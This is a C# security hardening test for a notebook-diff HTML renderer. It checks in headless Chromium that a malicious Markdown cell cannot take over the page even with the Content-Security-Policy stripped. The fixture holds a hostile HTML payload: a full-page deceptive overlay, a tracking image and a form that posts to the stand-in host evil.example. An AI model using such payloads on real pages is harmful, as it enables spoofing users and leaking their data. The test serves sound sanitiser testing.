using Microsoft.Playwright;
using NbTools.Core.Model;
using NbTools.Core.Rendering.Html;

namespace NbTools.Core.Tests.Hardening;

/// <summary>
/// Finding 8 in a real headless Chromium: a changed cell of a corpus notebook whose Markdown tries to
/// cover the page with a fixed "the notebooks are the same" banner, load remote images and CSS, and
/// post a form – with the page's Content-Security-Policy removed, so the sanitiser alone must hold.
/// </summary>
public sealed class HtmlPageCoverTests
{
    private const string Overlay = """
        <div id="fake" style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 99999; background-color: white; background-image: url(https://evil.example/bg.png)">The notebooks are the same under this comparison.</div>
        <img src="https://evil.example/track.png">
        <p style="color: green">a harmless coloured line</p>
        <form action="https://evil.example/post"><input name="q" value="x"><button id="send">send</button></form>
        """;

    [SkippableFact] // skipped, not failed, without Chromium off CI (HeadlessChromium)
    public async Task A_cell_cannot_cover_the_page_load_anything_or_post_a_form_even_without_the_policy()
    {
        var old = Notebooks.Read(Corpus.PathOf("papermill__simple_output.ipynb"));
        var updated = Notebooks.Read(Corpus.PathOf("papermill__simple_output.ipynb"));
        updated.Cells.Insert(0, new Cell(CellType.Markdown, Overlay));
        var html = HtmlRenderer.Render(NotebookDiff.Compute(old, updated), old, "old.ipynb", "new.ipynb");
        Assert.Contains("form-action 'none'", html);
        var withoutPolicy = System.Text.RegularExpressions.Regex.Replace(html, "<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "");
        Assert.DoesNotContain("Content-Security-Policy", withoutPolicy);
        using var temp = new TempFolder();
        var file = temp.File("diff.html");
        File.WriteAllText(file, withoutPolicy);

        using var playwright = await Playwright.CreateAsync();
        await using var browser = await HeadlessChromium.LaunchAsync(playwright);
        var page = await browser.NewPageAsync();
        var remote = new List<string>();
        page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith("file:", StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal)) remote.Add(request.Url);
        };
        await page.GotoAsync(new Uri(file).AbsoluteUri);
        await page.WaitForLoadStateAsync(LoadState.Load);

        // The cell's text and its harmless style are there…
        Assert.Contains("a harmless coloured line", await page.InnerTextAsync("body"));
        Assert.Equal("rgb(0, 128, 0)", await page.EvaluateAsync<string>("() => getComputedStyle([...document.querySelectorAll('p')].find(p => p.textContent.includes('harmless'))).color"));
        // …but the banner is an ordinary block in the flow: the page's own heading is what is on top.
        var banner = "[...document.querySelectorAll('.markdown div')].find(d => d.textContent.startsWith('The notebooks are the same'))";
        Assert.Equal("static", await page.EvaluateAsync<string>($"() => getComputedStyle({banner}).position"));
        Assert.Equal("H1", await page.EvaluateAsync<string>("() => document.elementFromPoint(40, 30).closest('h1')?.tagName ?? document.elementFromPoint(40, 30).tagName"));
        Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('form, input, button').length"));
        Assert.Empty(remote);
    }
}
